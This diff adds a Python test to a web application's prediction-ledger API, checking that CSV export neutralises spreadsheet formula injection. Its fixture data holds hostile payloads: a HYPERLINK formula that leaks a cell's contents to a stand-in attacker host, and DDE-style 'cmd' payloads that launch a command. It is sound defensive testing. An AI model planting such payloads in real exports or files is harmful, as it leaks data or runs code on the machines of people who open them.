@@ -104,6 +104,32 @@ def test_export_csv_streams_the_whole_public_ledger(anonymous: Client, article: 
     assert row["quote"] == inflection.quote and row["status"] == "due" and row["speaker_slug"] == "sam-altman"
 
 
+def test_export_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(anonymous: Client, frozen_now) -> None:
+    """Issue 9, finding 4 (OWASP "CSV injection"): text starting with = + - @ tab or CR gets a leading '."""
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")'
+    PredictionFactory.create(
+        claim=formula,
+        translation="+1+cmd|' /C calc'!A0",
+        resolution_criteria="-2+3",
+        horizon="\tthree years",
+        stated_confidence="an ordinary sentence",
+        speaker=SpeakerFactory.create(name="@SUM(1+1)*cmd|' /C calc'!A0", name_original="\r=1+1"),
+    )
+
+    rows = list(csv.DictReader(io.StringIO(streamed(anonymous.get("/api/v1/predictions/export.csv")).decode())))
+    exported = json.loads(streamed(anonymous.get("/api/v1/predictions/export.csv?format=json")))
+
+    [row] = rows
+    assert row["claim"] == "'" + formula
+    assert row["translation"] == "'+1+cmd|' /C calc'!A0"
+    assert row["resolution_criteria"] == "'-2+3"
+    assert row["horizon"] == "'\tthree years" and row["speaker_name_original"] == "'\r=1+1"
+    assert row["speaker_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["stated_confidence"] == "an ordinary sentence"  # nothing else changes
+    assert row["made_on"] == "2024-05-30" and row["implied_probability"] == "0.8"
+    assert exported[0]["claim"] == formula  # JSON is data, not a spreadsheet: verbatim
+
+
 def test_export_json_matches_the_list_representation(anonymous: Client, article: None, frozen_now) -> None:
     response = anonymous.get("/api/v1/predictions/export.csv?format=json")
 
